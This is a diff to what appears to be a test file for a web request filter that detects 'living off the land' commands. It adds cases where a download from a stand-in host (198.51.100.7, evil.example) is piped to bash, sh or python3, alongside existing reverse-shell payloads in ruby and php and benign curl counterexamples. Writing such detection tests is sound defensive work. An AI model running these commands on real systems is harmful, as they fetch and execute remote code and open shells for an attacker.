@@ -678,6 +678,11 @@ const LIVING_OFF_THE_LAND: Case[] = [
   ["body:form", "c=" + encodeURIComponent("ruby -rsocket -e 'c=TCPSocket.new(\"198.51.100.7\",4444)'")],
   ["body:json", JSON.stringify({ cmd: "php -r '$s=fsockopen(\"198.51.100.7\",4444);exec(\"/bin/sh -i <&3 >&3\");'" })],
   ["query", "x=" + encodeURIComponent("awk 'BEGIN {system(\"id\")}'")],
+  // A download piped to a shell or an interpreter.
+  ["query", "cmd=" + encodeURIComponent("wget -O- http://198.51.100.7/a|bash")],
+  ["body:form", "c=" + encodeURIComponent("curl -fsSL https://evil.example/x.sh | sudo sh")],
+  ["body:json", JSON.stringify({ cmd: "curl -s http://198.51.100.7/x | /bin/sh" })],
+  ["query", "x=" + encodeURIComponent("wget -qO- ftp://198.51.100.7/a|python3")],
 ];
 const NOT_LIVING_OFF_THE_LAND: Case[] = [
   // The programs' everyday arguments, and sentences that name them.
@@ -695,6 +700,11 @@ const NOT_LIVING_OFF_THE_LAND: Case[] = [
   ["query", "q=" + encodeURIComponent("awk -F: '{print $1}' users.txt")],
   ["body:json", JSON.stringify({ text: "python is a language for system programming" })],
   ["body:json", JSON.stringify({ text: "node is down, exec failed on the socket" })],
+  // A download piped to a program that runs nothing, or a shell only on failure; a sentence.
+  ["query", "q=" + encodeURIComponent("curl https://api.example.com/v1/items | jq .")],
+  ["query", "q=" + encodeURIComponent("curl http://x.example/a || bash fallback.sh")],
+  ["body:json", JSON.stringify({ text: "wget is a tool; curl | bash is risky" })],
+  ["body:json", JSON.stringify({ cmd: "curl -o a.sh https://example.com/a.sh" })],
 ];
 
 // Remote file inclusion (rfi.ts): a script's or a text file's URL ended by `?`: rce.
